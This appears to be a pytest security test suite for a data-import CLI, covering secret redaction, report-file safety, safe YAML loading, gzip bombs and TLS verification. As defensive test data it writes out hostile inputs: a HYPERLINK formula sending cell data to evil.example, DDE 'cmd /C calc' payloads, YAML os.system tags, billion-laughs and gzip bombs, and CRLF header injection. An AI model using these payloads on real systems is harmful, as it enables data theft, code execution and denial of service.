"""Security: the SECRET never leaks, report files are safe to open and private, configs are
loaded safely, compressed input is bounded, TLS is verified.

Every command runs as a user runs it (a subprocess of the installed ``dmimport``), against real
servers on loopback: the sandbox, a closed port, a self-signed HTTPS server, and a small HTTP
server that plays a platform answering with hostile text.
"""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import gzip
import json
import os
import shutil
import ssl
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from helpers import cli_env, on_terminal, write_csv
from helpers import dmimport as run_dmimport

from importer.errors import LoadError
from importer.load import InputOptions, iter_batches, open_source
from importer.sandbox import Faults, Sandbox
from importer.sandbox.schema import Schema

pytestmark = pytest.mark.slow  # the command in a subprocess, bombs

CANARY = "SECRET-CANARY-7f3a9c"

HEADER = ["手机号", "邮箱", "姓名", "年龄"]
CONFIG = """
job: {kind: user, primary_keys: [phone, email]}
columns:
  phone: 手机号
  email: {from: 邮箱, transform: [strip, lower]}
  username: 姓名
  age: {from: 年龄, type: integer}
send:
  concurrency: 8
  batch_rows: 10
  rate_limit: null
  retry: {max_attempts: 3, initial_backoff_s: 0.001, max_backoff_s: 0.005}
"""


# -- helpers ------------------------------------------------------------------------------------


def dmimport(*args: str | Path, cwd: Path, secret: str | None = CANARY,
             tty: bool = False) -> tuple[int, str, str]:  # fmt: skip
    """Run the CLI; with ``tty`` its stderr is a terminal, so the progress bar is drawn."""
    if not tty:
        proc = run_dmimport(*args, cwd=cwd, secret=secret)
        return proc.returncode, proc.stdout, proc.stderr
    code, out, chunks = on_terminal(*args, cwd=cwd, secret=secret)
    return code, out, "".join(text for _, text in chunks)


def rows(n: int, prefix: str = "0139") -> list[list[str]]:
    return [
        [f"{prefix}{i:07d}", f"U{i}@Example.cn", f"用户{i}", str(20 + i % 50)] for i in range(n)
    ]


def files_under(root: Path) -> Iterator[Path]:
    for dirpath, _, names in os.walk(root):
        for name in names:
            yield Path(dirpath) / name


def run_dirs(report_root: Path) -> list[Path]:
    return sorted(p for p in report_root.iterdir() if p.is_dir())


class Platform:
    """A small HTTP/1.1 server on loopback, in its own thread, that plays the platform.

    ``answer(body) -> (errcode, errmsg)``; every request's headers and body are kept in
    ``requests``. With ``ssl_ctx`` it speaks HTTPS.
    """

    def __init__(self, answer: Callable[[bytes], tuple[int, str]],
                 ssl_ctx: ssl.SSLContext | None = None) -> None:  # fmt: skip
        self.answer = answer
        self.requests: list[tuple[dict[str, str], bytes]] = []
        self._loop = asyncio.new_event_loop()
        ready = threading.Event()

        async def start() -> None:
            self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0, ssl=ssl_ctx)
            self.port = self._server.sockets[0].getsockname()[1]

        def main() -> None:
            self._loop.run_until_complete(start())
            ready.set()
            self._loop.run_forever()

        self._thread = threading.Thread(target=main, daemon=True)
        self._thread.start()
        ready.wait(10)
        self.url = f"{'https' if ssl_ctx else 'http'}://127.0.0.1:{self.port}"

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                head = await reader.readuntil(b"\r\n\r\n")
                lines = head.decode("latin-1").split("\r\n")
                headers: dict[str, str] = {}
                for line in lines[1:]:
                    if line:
                        name, _, value = line.partition(":")
                        headers[name.strip().lower()] = value.strip()
                body = await reader.readexactly(int(headers.get("content-length", "0")))
                self.requests.append((headers, body))
                code, msg = self.answer(body)
                payload = json.dumps({"errcode": code, "errmsg": msg}).encode()
                writer.write(
                    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                    b"Content-Length: %d\r\n\r\n" % len(payload) + payload
                )
                await writer.drain()
        except (
            asyncio.IncompleteReadError,
            ConnectionError,
            ssl.SSLError,
            asyncio.LimitOverrunError,
        ):
            pass
        finally:
            writer.close()

    def stop(self) -> None:
        async def close() -> None:
            self._server.close()

        asyncio.run_coroutine_threadsafe(close(), self._loop).result(10)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(10)


@pytest.fixture
def platform() -> Iterator[Callable[..., Platform]]:
    started: list[Platform] = []

    def make(answer: Callable[[bytes], tuple[int, str]], ssl_ctx: ssl.SSLContext | None = None
             ) -> Platform:  # fmt: skip
        p = Platform(answer, ssl_ctx)
        started.append(p)
        return p

    yield make
    for p in started:
        p.stop()


# -- the SECRET never leaks ---------------------------------------------------------------------


def test_secret_never_appears_in_any_output_stream_or_file(
    fresh_sandbox: Callable[..., Sandbox], sandbox_schema: Schema, tmp_path: Path
) -> None:
    knows = dataclasses.replace(sandbox_schema, secrets=(CANARY,))
    flaky = fresh_sandbox(schema=knows, faults=Faults(seed=3, http_503=0.2, http_500=0.2))
    stranger = fresh_sandbox()  # does not know the canary: 20000
    data = write_csv(tmp_path / "c.csv", HEADER, rows(400))
    bad = rows(3, "0140")
    bad[1][3] = "not-a-number"
    small = write_csv(tmp_path / "small.csv", HEADER, bad)
    (tmp_path / "job.yaml").write_text(CONFIG, encoding="utf-8")
    closed = f"http://127.0.0.1:{_closed_port()}"

    # 40% of attempts fail and 3 attempts are allowed: some rows end failed (exit 1)
    runs: dict[str, tuple[list[str | Path], set[int]]] = {
        "run-5xx": (["run", "job.yaml", data, "--base-url", flaky.url], {0, 1}),
        "run-debug-5xx": (["run", "job.yaml", data, "--base-url", flaky.url, "--debug"], {0, 1}),
        "run-json": (["run", "job.yaml", small, "--base-url", flaky.url, "--json"], {1}),
        "run-20000": (["run", "job.yaml", data, "--base-url", stranger.url], {3}),
        # a wrong URL: the abort names it, the SECRET in its query shown as ***
        "run-404": (["run", "job.yaml", small, "--base-url", stranger.url + "/nope"], {3}),
        "run-closed-port": (["run", "job.yaml", small, "--base-url", closed], {1}),
        "validate": (["validate", "job.yaml", small], {1}),
    }
    outputs: list[str] = []
    for name, (args, expected) in runs.items():
        # stderr is a terminal, so the progress bar is drawn too (stdout is still captured)
        code, out, err = dmimport("--verbose", *args, "--report-dir", "rep", cwd=tmp_path, tty=True)
        assert code in expected, (name, out, err)
        outputs += [out, err]
    code, out, err = dmimport("--verbose", "check-config", "job.yaml", cwd=tmp_path)
    assert code == 0
    outputs += [out, err]
    # an error raised as an exception (the report folder cannot be created), with --verbose
    (tmp_path / "taken").write_text("a file")
    code, out, err = dmimport("--verbose", "run", "job.yaml", small, "--base-url", flaky.url,
                              "--report-dir", "taken/rep", cwd=tmp_path)  # fmt: skip
    assert code in (2, 5) and "taken/rep" in err
    outputs += [out, err]

    # the runs really went through the situations they are meant to
    text = "\n".join(outputs)
    assert "ABORTED: 20000 Authentication failed" in text
    assert (
        f"HTTP 404 without the platform's errcode answer from {stranger.url}/nope/api/v1/api/"
        "import?secret=***: check target.base_url and target.path"
    ) in text
    assert "ConnectionRefusedError" in text
    assert " rows/s  ETA " in text and "rejected=" in text  # the progress bar was drawn
    assert flaky.stats()["by_fault"]["http_503"] > 0

    assert CANARY not in text
    assert CANARY[-6:] not in text
    reports = list(files_under(tmp_path / "rep"))
    assert len(reports) >= 10
    for path in reports:
        assert CANARY.encode() not in path.read_bytes(), path
        assert CANARY[-6:].encode() not in path.read_bytes(), path


#: a run whose SECRET leaks into an exception: building the request target
#: (``importer.protocol.Profile.target``, public; under import-api it puts the SECRET in the
#: URL) fails quoting the SECRET as is, in a URL's query string and URL-encoded, and a log line
#: names the same URL; then the CLI runs as ``dmimport`` does
_LEAKY_RUN = """
import logging, sys, urllib.parse
import importer.protocol as protocol

shown = protocol.Profile.target

def target(self, kind, debug, secret):
    if secret == "***":  # Profile.shown_target: the masked form, for messages
        return shown(self, kind, debug, secret)
    quoted = urllib.parse.quote(secret, safe="")
    url = f"https://api.example.com/api/v1/api/import?secret={quoted}&x=1"
    logging.getLogger("importer").warning("sending to %s", url)
    raise RuntimeError(f"cannot build {url} with {secret!r} ({urllib.parse.quote_plus(secret)})")

protocol.Profile.target = target
from importer.cli import main
sys.exit(main())
"""


def test_a_secret_under_a_custom_variable_is_redacted_from_messages_tracebacks_and_urls(
    fresh_sandbox: Callable[..., Sandbox], tmp_path: Path
) -> None:
    secret = "Tok+en/9Zq=Xy-c4n4ry"
    sb = fresh_sandbox()
    small = write_csv(tmp_path / "small.csv", HEADER, rows(3))
    (tmp_path / "job.yaml").write_text(
        CONFIG + "target: {secret_env: MY_IMPORT_TOKEN}\n", encoding="utf-8"
    )
    env = cli_env(env={"MY_IMPORT_TOKEN": secret})
    proc = subprocess.run(
        [sys.executable, "-c", _LEAKY_RUN, "--verbose", "run", "job.yaml", small,
         "--base-url", sb.url, "--report-dir", "rep"],
        capture_output=True, text=True, env=env, cwd=tmp_path, timeout=120,
    )  # fmt: skip
    # the bug is reported, with its traceback, but without the SECRET in any form
    assert proc.returncode == 5, proc.stderr
    assert (
        "internal error: RuntimeError: cannot build "
        "https://api.example.com/api/v1/api/import?secret=****&x=1 with '****' (****)"
    ) in proc.stderr
    assert "Traceback (most recent call last)" in proc.stderr
    assert (
        "WARNING importer: sending to https://api.example.com/api/v1/api/import?secret=****&x=1"
    ) in proc.stderr
    forms = {secret, "c4n4ry", "Tok%2Ben%2F9Zq%3DXy", "Tok%2Ben/9Zq%3DXy"}
    for form in forms:
        assert form not in proc.stdout + proc.stderr, form
    written = [p for p in files_under(tmp_path) if p.name not in ("job.yaml", "small.csv")]
    assert written  # the report folder and the ledger
    for path in written:
        for form in forms:
            assert form.encode() not in path.read_bytes(), (path, form)


def _closed_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_a_secret_with_a_line_break_is_refused_not_sent_as_extra_headers(
    platform: Callable[..., Platform], tmp_path: Path
) -> None:
    # A SECRET read from a file with Windows line ends, or pasted with a newline, must not put
    # a line break into the request head: that would let it inject headers.
    server = platform(lambda body: (0, "请求成功"))
    data = write_csv(tmp_path / "c.csv", HEADER, rows(3))
    (tmp_path / "job.yaml").write_text(CONFIG, encoding="utf-8")
    code, out, err = dmimport(
        "run",
        "job.yaml",
        data,
        "--base-url",
        server.url,
        "--report-dir",
        "rep",
        cwd=tmp_path,
        secret=CANARY + "\r\nX-Injected: yes",
    )
    injected = [h for h, _ in server.requests if "x-injected" in h]
    assert not injected, f"{len(injected)} requests carried a header injected by the SECRET"
    assert code == 2, (out, err)
    assert "target.secret_env" in err and "DMART_SECRET" in err
    assert CANARY not in err + out
    assert server.requests == []


def test_a_secret_pasted_into_the_config_is_refused_and_never_echoed(tmp_path: Path) -> None:
    # An API key pasted where the variable's NAME belongs: the refusal must not print it, in
    # its message or in the YAML line shown under it.
    pasted = "sk_live_abc123def456ghi789"
    write_csv(tmp_path / "c.csv", ["手机号"], [["13800000000"]])
    (tmp_path / "job.yaml").write_text(
        f"target:\n  secret_env: {pasted}\n"
        "job: {kind: user, primary_keys: [phone]}\ncolumns:\n  phone: 手机号\n",
        encoding="utf-8",
    )
    refusal = (
        "error: invalid config job.yaml:\n"
        "  target.secret_env (line 2): secret_env looks like the SECRET itself; it must be the "
        "NAME of an environment variable -- put the SECRET in an environment variable (e.g. "
        "DMART_SECRET) and name it here\n"
        "    2 |   secret_env: ****\n"
        "      |   ^ secret_env looks like the SECRET itself; it must be the NAME of an "
        "environment variable\n"
    )
    for command in (["check-config", "job.yaml"], ["run", "job.yaml", "c.csv"]):
        assert dmimport(*command, cwd=tmp_path) == (2, "", refusal)

    # Not a name at all (a base64 key): refused without quoting it either.
    (tmp_path / "job.yaml").write_text(
        "target: {secret_env: 'c2VjcmV0+/==', debug: false}\n"
        "job: {kind: user, primary_keys: [phone]}\ncolumns:\n  phone: 手机号\n",
        encoding="utf-8",
    )
    assert dmimport("check-config", "job.yaml", cwd=tmp_path) == (
        2,
        "",
        "error: invalid config job.yaml:\n"
        "  target.secret_env (line 1): secret_env is not an environment variable name (letters, "
        "digits and '_', not starting with a digit) -- e.g. DMART_SECRET\n"
        "    1 | target: {secret_env: ****, debug: false}\n"
        "      |          ^ secret_env is not an environment variable name (letters, digits and "
        "'_', not starting with a digit)\n",
    )

    # The SECRET itself under a key of another name, and as a constant: masked wherever the
    # excerpt would show it, because it equals the SECRET the environment holds.
    (tmp_path / "job.yaml").write_text(
        "target: {secret_env: DMART_SECRET}\n"
        f"job: {{kind: user, primary_keys: [phone], sekret: {CANARY}}}\n"
        "columns:\n"
        "  phone: 手机号\n"
        f"  source: {{value: {CANARY}, required: true}}\n",
        encoding="utf-8",
    )
    assert dmimport("check-config", "job.yaml", cwd=tmp_path) == (
        2,
        "",
        "error: invalid config job.yaml:\n"
        "  job.sekret (line 2): unknown key 'sekret' -- allowed keys: name, kind, event_name, "
        "event_name_from, primary_keys, max_value_length, duplicates\n"
        "  columns.source (line 5): 'required' only applies to a column read from the file "
        "('from'), not to a constant 'value'\n"
        "    2 | job: {kind: user, primary_keys: [phone], sekret: ****}\n"
        "      |                                          ^ unknown key 'sekret'\n"
        "    5 |   source: {value: ****, required: true}\n"
        "      |   ^ 'required' only applies to a column read from the file ('from'), not to a "
        "constant 'value'\n",
    )


# -- report files: spreadsheet-safe, raw where it must be, private --------------------------------

HOSTILE_COLUMN = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_ERRMSGS = {
    "13800000002": "-2+3+cmd|' /C calc'!A0",
    "13800000003": "@SUM(1+1)*cmd|' /C calc'!A0",
    "13800000004": "\tTAB first",
    "13800000005": "\rCR first",
    "13800000006": "+1+1",
}


def _hostile(body: bytes) -> tuple[int, str]:
    for phone, msg in HOSTILE_ERRMSGS.items():
        if phone.encode() in body:
            return 20003, msg
    return 0, "请求成功"


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_report_cells_are_neutralised_in_csv_and_raw_in_jsonl_and_rejects(
    platform: Callable[..., Platform], tmp_path: Path, fmt: str
) -> None:
    server = platform(_hostile)
    header = ["手机号", "邮箱", "姓名", HOSTILE_COLUMN]
    data_rows = [
        ["13800000001", "a@b.cn", "ok", "1"],
        ["13800000002", "b@b.cn", "x", "2"],
        ["13800000003", "c@b.cn", "x", "3"],
        ["13800000004", "d@b.cn", "x", "4"],
        ["13800000005", "e@b.cn", "x", "5"],
        ["13800000006", "g@b.cn", "x", "6"],
        ["+8613800138000", "f@b.cn", "=1+1", "abc"],  # rejected locally: age is not a number
    ]
    write_csv(tmp_path / "@export.csv", header, data_rows)
    config = CONFIG.replace("from: 年龄", f"from: '{HOSTILE_COLUMN}'")
    config += f"report: {{format: {fmt}}}\n"
    (tmp_path / "job.yaml").write_text(config, encoding="utf-8")
    code, out, err = dmimport(
        "run",
        "job.yaml",
        "@export.csv",
        "--base-url",
        server.url,
        "--report-dir",
        "rep",
        "--json",
        cwd=tmp_path,
    )
    assert code == 1, err
    summary = json.loads(out)
    results_path = tmp_path / summary["results"]
    if fmt == "csv":
        with open(results_path, newline="", encoding="utf-8-sig") as fh:
            got = {r["line"]: r for r in csv.DictReader(fh)}
        quote = "'"
    else:
        got = {str(r["line"]): r for r in map(json.loads, results_path.read_text().splitlines())}
        quote = ""
    assert {r["file"] for r in got.values()} == {quote + "@export.csv"}
    for i, msg in enumerate(HOSTILE_ERRMSGS.values(), start=3):
        assert (got[str(i)]["status"], got[str(i)]["errmsg"]) == ("failed", quote + msg)
    assert got["8"]["column"] == quote + HOSTILE_COLUMN
    assert got["8"]["identity"] == "phone=+8613800138000;email=f@b.cn"
    assert got["2"]["status"] == "ok"

    # The rejects file is for re-import: values exactly as in the input, byte for byte.
    (rejects,) = summary["rejects"]
    lines = (tmp_path / rejects).read_bytes().decode("utf-8").splitlines()
    source = (tmp_path / "@export.csv").read_text(encoding="utf-8").splitlines()
    assert lines == [source[0], *source[2:8]]
    assert lines[-1] == "+8613800138000,f@b.cn,=1+1,abc"


def test_mask_pii_masks_phones_and_emails_everywhere_in_the_results(
    fresh_sandbox: Callable[..., Sandbox], tmp_path: Path
) -> None:
    sb = fresh_sandbox()
    data = [
        ["18312346527", "tiger@qdum.com", "张三", "30"],
        ["18398765432", "li@qdum.com", "李四", "old"],  # 10002 on age
        ["28312340000", "wu@qdum.com", "吴", "30"],  # fails the phone pattern
    ]
    write_csv(tmp_path / "c.csv", HEADER, data)
    config = CONFIG.replace("phone: 手机号", r"phone: {from: 手机号, pattern: '1\d{10}'}")
    (tmp_path / "job.yaml").write_text(config + "report: {mask_pii: true}\n", encoding="utf-8")
    code, out, err = dmimport(
        "run",
        "job.yaml",
        "c.csv",
        "--base-url",
        sb.url,
        "--report-dir",
        "rep",
        "--json",
        cwd=tmp_path,
        secret=sb.secret,
    )
    assert code == 1, err
    summary = json.loads(out)
    with open(tmp_path / summary["results"], newline="", encoding="utf-8-sig") as fh:
        got = list(csv.DictReader(fh))
    assert [r["identity"] for r in got] == [
        "phone=183****6527;email=ti****@qdum.com",
        "phone=183****5432;email=li****@qdum.com",
        "phone=283****0000;email=wu****@qdum.com",
    ]
    text = (tmp_path / summary["results"]).read_text(encoding="utf-8")
    text += (tmp_path / summary["report_dir"] / "summary.json").read_text(encoding="utf-8")
    for phone, email, _, _ in data:
        assert phone not in text, phone
        assert email not in text, email


BLACKLISTED = [
    # phone, e-mail, member id: the platform's refusal names all three
    ["13812345678", "alice.wang@corp.cn", "M-0042"],
    ["+86 139-8765-4321", "bob@corp.cn", "M-0043"],
]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_mask_pii_masks_the_customer_a_platform_message_names_in_every_output(
    fresh_sandbox: Callable[..., Sandbox], sandbox_schema: Schema, tmp_path: Path, fmt: str
) -> None:
    # The platform refuses each customer with a message that names it, in double quotes and
    # bare: 'customer 13812345678 / "alice.wang@corp.cn" / "M-0042" is blacklisted'.
    schema = dataclasses.replace(sandbox_schema, primary_keys=("phone", "email", "member_id"))
    sb = fresh_sandbox(schema=schema, faults=Faults(blacklisted=1.0))
    write_csv(tmp_path / "c.csv", ["手机号", "邮箱", "会员号"], BLACKLISTED)
    (tmp_path / "job.yaml").write_text(
        "job: {kind: user, primary_keys: [phone, member_id]}\n"
        "columns: {phone: 手机号, email: 邮箱, member_id: 会员号}\n"
        f"report: {{mask_pii: true, format: {fmt}}}\n",
        encoding="utf-8",
    )
    outputs = []
    for extra in ([], ["--json"]):
        args = ["--verbose", "run", "job.yaml", "c.csv", "--base-url", sb.url, *extra]
        code, out, err = dmimport(*args, "--report-dir", "rep", cwd=tmp_path, secret=sb.secret)
        assert code == 1, err
        outputs += [out, err]
    summary = json.loads(outputs[2])
    assert summary["counts"]["failed"] == 2
    # one reason, the customers' masked values taken out so the two rows count together
    assert summary["top_reasons"] == [
        {
            "reason": 'Data checking failed: customer … / "…" / "…" is blacklisted',
            "rows": 2,
            "example": "c.csv:2",
        }
    ]
    results = tmp_path / summary["results"]
    if fmt == "csv":
        with open(results, newline="", encoding="utf-8-sig") as fh:
            got = [(r["identity"], r["errmsg"]) for r in csv.DictReader(fh)]
    else:
        lines = results.read_text(encoding="utf-8").splitlines()
        got = [(r["identity"], r["errmsg"]) for r in map(json.loads, lines)]
    assert got == [
        (
            "phone=138****5678;member_id=****",
            'Data checking failed: customer 138****5678 / "al****@corp.cn" / "****" is blacklisted',
        ),
        (
            "phone=+86****4321;member_id=****",
            'Data checking failed: customer +86****4321 / "bo****@corp.cn" / "****" is blacklisted',
        ),
    ]
    assert "  top reasons:" in outputs[0]
    # Every stream and every file but the two that hold values by design: the rejects file
    # (for re-import) and the ledger (a row's identity is its primary-key values; it holds
    # no message, so never the e-mail the message named).
    ledger = b""
    for path in files_under(tmp_path):
        data = path.read_bytes()
        if path.name.startswith("state.db"):
            ledger += data
        elif not (path.name.startswith("rejects") or path.name in ("c.csv", "job.yaml")):
            outputs.append(data.decode("utf-8"))
    assert ledger and b"blacklisted" not in ledger
    text = "\n".join(outputs)
    assert len(outputs) >= 7  # results, summary.json, twice; and the four streams
    for values in BLACKLISTED:
        for value in values:
            assert value not in text, value
            assert value.replace(" ", "").replace("-", "") not in text, value
        assert values[1].encode() not in ledger


def test_report_files_are_private(tmp_path: Path) -> None:
    # rejects in every input format, so every writer is covered
    write_csv(tmp_path / "c.csv", HEADER, [["13800000001", "a@b.cn", "x", "bad"]])
    (tmp_path / "c.jsonl").write_text(
        json.dumps({"手机号": "13800000001", "邮箱": "a@b.cn", "年龄": "bad"}) + "\n"
    )
    pq.write_table(
        pa.table({"手机号": ["13800000001"], "邮箱": ["a@b.cn"], "姓名": ["x"], "年龄": ["bad"]}),
        tmp_path / "c.parquet",
    )
    (tmp_path / "job.yaml").write_text(CONFIG, encoding="utf-8")
    for name in ("c.csv", "c.jsonl", "c.parquet"):
        code, _, err = dmimport("validate", "job.yaml", name, "--report-dir", "rep", cwd=tmp_path)
        assert code == 1, err
    dirs = run_dirs(tmp_path / "rep")
    assert len(dirs) == 3
    seen = set()
    for d in dirs:
        assert stat.S_IMODE(d.stat().st_mode) == 0o700, d
        for f in d.iterdir():
            seen.add(f.name)
            assert stat.S_IMODE(f.stat().st_mode) == 0o600, f"{f.name} is {oct(f.stat().st_mode)}"
    assert {
        "results.csv",
        "summary.json",
        "rejects.csv",
        "rejects.jsonl",
        "rejects.parquet",
    } <= seen


# -- config loading is safe ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "tag",
    ["!!python/object/apply:os.system", "!!python/object/new:os.system"],
    ids=["apply", "new"],
)
def test_yaml_python_tags_are_refused_not_executed(tmp_path: Path, tag: str) -> None:
    marker = tmp_path / "pwned"
    (tmp_path / "evil.yaml").write_text(
        "job: {kind: user, primary_keys: [phone]}\n"
        "columns:\n"
        "  phone: 手机号\n"
        f'  x: {tag} ["touch {marker}"]\n',
        encoding="utf-8",
    )
    for command in (["check-config", "evil.yaml"], ["validate", "evil.yaml", "c.csv"]):
        write_csv(tmp_path / "c.csv", ["手机号"], [["1"]])
        code, _, err = dmimport(*command, cwd=tmp_path)
        assert code == 2
        assert not marker.exists()
        lines = err.splitlines()
        assert lines[:2] == [
            "error: invalid config evil.yaml:",
            "  config (line 4): YAML syntax error: could not determine a constructor for the tag "
            f"'tag:yaml.org,2002:{tag[2:]}' -- check indentation, colons and quotes around this "
            "line",
        ]
        assert all(" | " in line for line in lines[2:]), lines  # the line, with a pointer


BOMB_HEAD = "job: {kind: user, primary_keys: [phone]}\ncolumns:\n  phone: 手机号\n"


def _billion_laughs() -> str:
    """Nine levels of nine aliases: 9**9 (387 million) values once expanded."""
    lines = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} [{', '.join([f'*{prev}'] * 9)}]")
    return BOMB_HEAD + "\n".join(lines) + "\n"


def _dmimport_in_1gb(*args: str, cwd: Path) -> tuple[int, str, str]:
    """The CLI with its address space capped at 1 GiB: a bomb that gets through fails fast
    with MemoryError instead of eating the machine."""
    import resource

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    proc = run_dmimport(*args, cwd=cwd, preexec_fn=cap)
    return proc.returncode, proc.stdout, proc.stderr


@pytest.mark.parametrize(
    ("text", "problem", "shown"),
    [
        (
            _billion_laughs(),
            "  config (line 9): alias *e expands the document past 100,000 values (aliases "
            "repeating aliases) -- a config needs a few hundred; use fewer aliases (*name)",
            "    9 | f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]",
        ),
        (
            BOMB_HEAD + "x: " + "[" * 50_000 + "]" * 50_000 + "\n",
            "  config (line 4): nesting deeper than 100 levels -- a config needs a few levels; "
            "is this the right file?",
            "    4 | x: " + "[" * 157 + " ...",
        ),
        (
            BOMB_HEAD + "x: &x [*x]\n",
            "  config (line 4): alias *x is used inside its own anchor (a structure that contains "
            "itself) -- write the values out instead of the alias",
            "    4 | x: &x [*x]",
        ),
    ],
    ids=["billion-laughs", "deep-nesting", "self-reference"],
)
def test_yaml_bombs_are_refused_with_the_line_in_bounded_memory(
    tmp_path: Path, text: str, problem: str, shown: str
) -> None:
    (tmp_path / "bomb.yaml").write_text(text, encoding="utf-8")
    write_csv(tmp_path / "c.csv", ["手机号"], [["13800000000"]])
    for command in (["check-config", "bomb.yaml"], ["run", "bomb.yaml", "c.csv"]):
        code, out, err = _dmimport_in_1gb(*command, cwd=tmp_path)
        assert (code, out) == (2, ""), err
        lines = err.splitlines()
        assert lines[:3] == ["error: invalid config bomb.yaml:", problem, shown], lines
        assert "Traceback" not in err
    assert not (tmp_path / "reports").exists()


def test_a_config_larger_than_1_mib_is_refused_unread(tmp_path: Path) -> None:
    (tmp_path / "big.yaml").write_text(BOMB_HEAD + "# " + "x" * (1 << 20) + "\n")
    code, out, err = _dmimport_in_1gb("check-config", "big.yaml", cwd=tmp_path)
    assert (code, out, err) == (
        2,
        "",
        "error: invalid config big.yaml:\n"
        "  config: the file is larger than 1 MiB; a config is a few KB -- is this the right "
        "file?\n",
    )


# -- compressed input is bounded ----------------------------------------------------------------


@pytest.fixture(scope="module")
def gzip_bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """200 MB of decompressed CSV (a header, then rows of zeros) in about 200 KB."""
    path = tmp_path_factory.mktemp("bomb") / "bomb.csv.gz"
    with gzip.open(path, "wb", compresslevel=6) as fh:
        fh.write("手机号,邮箱,姓名,年龄\n".encode())
        block = b"0,0,0,0\n" * (1 << 17)  # 1 MiB
        for _ in range(200):
            fh.write(block)
    assert path.stat().st_size < 1 << 20
    return path


def test_gzip_bomb_is_stopped_at_the_decompressed_size_limit(gzip_bomb: Path) -> None:
    limit = 16 << 20
    t0 = time.perf_counter()
    with pytest.raises(LoadError) as info:
        open_source(gzip_bomb, InputOptions(max_decompressed_bytes=limit))
    assert str(info.value) == (
        f"{gzip_bomb}: decompresses to more than {limit} bytes (input.max_decompressed_bytes); "
        "refusing to read further"
    )
    assert time.perf_counter() - t0 < 5
    # under the limit the same file opens, and reading it is bounded by the same limit
    source = open_source(gzip_bomb, InputOptions(max_decompressed_bytes=300 << 20))
    rows_read = 0
    with pytest.raises(LoadError, match="decompresses to more than 8388608 bytes"):
        for batch in iter_batches(source, InputOptions(max_decompressed_bytes=8 << 20)):
            rows_read += batch.table.num_rows
    assert rows_read < (8 << 20) // 8


def test_gzip_bomb_through_the_cli_stops_at_the_configured_limit(
    gzip_bomb: Path, tmp_path: Path
) -> None:
    shutil.copy(gzip_bomb, tmp_path / "bomb.csv.gz")
    limit = 16 << 20
    (tmp_path / "job.yaml").write_text(
        CONFIG + f"input: {{max_decompressed_bytes: {limit}}}\n", encoding="utf-8"
    )
    t0 = time.perf_counter()
    code, _, err = dmimport("validate", "job.yaml", "bomb.csv.gz", "--report-dir", "rep",
                            cwd=tmp_path)  # fmt: skip
    assert time.perf_counter() - t0 < 15
    assert code == 2
    assert err == (
        f"error: bomb.csv.gz: decompresses to more than {limit} bytes "
        "(input.max_decompressed_bytes); refusing to read further\n"
    )


def test_nul_gzip_bomb_through_the_cli_is_refused_without_a_traceback(tmp_path: Path) -> None:
    bomb = tmp_path / "zeros.csv.gz"
    with gzip.open(bomb, "wb", compresslevel=6) as fh:
        block = b"\x00" * (1 << 20)
        for _ in range(200):
            fh.write(block)
    (tmp_path / "job.yaml").write_text(CONFIG, encoding="utf-8")
    t0 = time.perf_counter()
    code, _, err = dmimport(
        "validate", "job.yaml", "zeros.csv.gz", "--report-dir", "rep", cwd=tmp_path
    )
    assert time.perf_counter() - t0 < 15
    assert code == 2
    assert err.startswith("error: zeros.csv.gz: this is binary data, not a text file")
    assert "Traceback" not in err


# -- TLS is verified by default -----------------------------------------------------------------


def test_self_signed_https_aborts_the_run_with_a_certificate_message(
    platform: Callable[..., Platform], self_signed: tuple[Path, Path], tmp_path: Path
) -> None:
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ctx.load_cert_chain(*self_signed)
    server = platform(lambda body: (0, "请求成功"), ctx)
    data = write_csv(tmp_path / "c.csv", HEADER, rows(500))
    (tmp_path / "job.yaml").write_text(CONFIG, encoding="utf-8")
    code, out, err = dmimport(
        "run",
        "job.yaml",
        data,
        "--base-url",
        server.url,
        "--report-dir",
        "rep",
        "--json",
        cwd=tmp_path,
    )
    assert code == 3, err
    summary = json.loads(out)
    assert summary["aborted"].startswith("TLS certificate verification failed: ")
    assert "certificate" in summary["aborted"]
    assert summary["requests"] <= 8  # one per worker at most, never retried
    assert server.requests == []  # nothing was sent over the unverified connection
    assert summary["counts"]["not_sent"] + summary["counts"]["failed"] == 500
    # and with the CA given explicitly the same server is trusted
    cert = self_signed[0]
    (tmp_path / "ca.yaml").write_text(CONFIG + f"target: {{ca_file: '{cert}'}}\n")
    code, out, err = dmimport(
        "run",
        "ca.yaml",
        data,
        "--base-url",
        server.url,
        "--report-dir",
        "rep",
        "--json",
        cwd=tmp_path,
    )
    assert code == 0, err
    assert len(server.requests) == 50  # batches of 10 rows
